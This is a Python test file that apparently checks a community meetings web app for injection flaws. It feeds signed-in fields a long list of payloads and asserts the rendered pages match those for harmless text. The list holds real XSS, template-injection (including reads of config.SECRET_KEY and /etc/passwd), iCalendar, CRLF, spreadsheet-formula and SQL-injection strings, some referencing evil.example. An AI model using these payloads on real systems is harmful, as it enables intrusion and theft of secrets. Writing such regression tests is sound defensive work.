"""Texts that would run, break out or be worked out: in every field that people who are signed in can fill, seen on
every page, card, list, calendar and file, they make what a harmless text of the same length makes."""

import re

import pytest

from tests.access.conftest import Site
from tests.access.replay import held, undone
from tests.access.typing import Shape, Typist, shape

pytestmark = pytest.mark.parametrize("site", ["sqlite"], indirect=True)
LENGTH = 110
PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><script src=//evil.example></script>',
    "'><svg/onload=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
    "</title><svg onload=alert(1)>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<!--<img src=--><b onclick=alert(1)>", "<iframe srcdoc='&lt;b>'>", "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)//", "data:text/html,<script>x", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>", "<form action=//evil.example><input name=a>",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<math><mi xlink:href='data:x'>",
    "<object data=//evil.example>", "<template><b>x</template>", "<details open ontoggle=alert(1)>",
    "<b\x0bonclick=x>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-x", "{{7*7}}", "{{ config.SECRET_KEY }}",
    "{% include '/etc/passwd' %}", "${7*7}#{7*7}<%= 7*7 %>", "{0.__class__}{name}", "%(name)s%n%x",
    "\x1ewhen\x1e\x1etags\x1e\x1efar\x1e", "]]><x/><![CDATA[", "<?xml version='1.0'?><!DOCTYPE a>",
    "END:VEVENT;X=1,\\nBEGIN:VALARM\\,\\;\\", "=1+1|cmd'!A0", "\x00<b>\ud7ff\ufffe\u202e\u2066x",
    "<b>🫶🏽</b>\u200d\u200f\u00ad", "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x", "</b></a></p></main>",
    "`'\"<>&;--/**/ OR 1=1", "' UNION SELECT 1--",
)  # fmt: skip
SHOWING = {"/meetings/listing-0", "/venues/hall-0", "/near/halifax?when=week", "/near/halifax.json?when=week",
           "/meetings", "/care", "/care/reports", "/organisations/calder/glass"}  # fmt: skip
BASE: dict[str, dict[str, tuple[int, Shape]]] = {}


def texts() -> list[str]:
    """The payloads, as many in one text as the shorter fields hold."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) >= LENGTH:
            found.append("")
        found[-1] += f" {payload}" if found[-1] else payload
    return [text + "x" * (LENGTH - len(text)) for text in found]


@pytest.mark.parametrize("text", texts())
def test_sr_060_no_text_makes_an_element_an_attribute_or_a_property(site: Site, text: str) -> None:
    harmless = re.sub(r"[^\n\r]", "x", text)
    if harmless not in BASE:
        BASE[harmless] = made_of(site, harmless)
    found = made_of(site, text)

    assert {path: told[0] for path, told in found.items() if told[0] >= 500} == {}
    assert {path: (told, BASE[harmless][path]) for path, told in found.items() if told != BASE[harmless][path]} == {}


def test_sr_060_the_texts_are_taken_and_shown_everywhere(site: Site) -> None:
    text = "x" * LENGTH
    with held(site.app) as connection, undone(connection):
        typist = Typist(site, connection)
        saved = [path for path, answer in typist.type(text) if answer.status_code == 303]
        showing = [path for path, answer in typist.look() if text in answer.get_data(as_text=True)]

    assert len(saved) >= 9
    assert SHOWING - set(showing) == set()


@pytest.mark.parametrize("text", texts()[-3:])
def test_sr_060_what_is_kept_for_after_signing_in_makes_nothing_either(site: Site, text: str) -> None:
    client = site.app.test_client(use_cookies=False)
    answers = [client.post("/account/name", data={"name": typed}) for typed in (text, "x" * LENGTH)]

    assert [answer.status_code for answer in answers] == [401, 401]
    assert shape(answers[0]) == shape(answers[1])


def made_of(site: Site, text: str) -> dict[str, tuple[int, Shape]]:
    """What every answer is made of while, and after, somebody types that text into every field."""
    with held(site.app) as connection:
        typist = Typist(site, connection)
        with undone(connection):
            answers = typist.type(text) + typist.look()
        with undone(connection):
            answers += [(f"paused: {path}", answer) for path, answer in typist.pause(text)]
    return {f"{number} {path}": (answer.status_code, shape(answer)) for number, (path, answer) in enumerate(answers)}
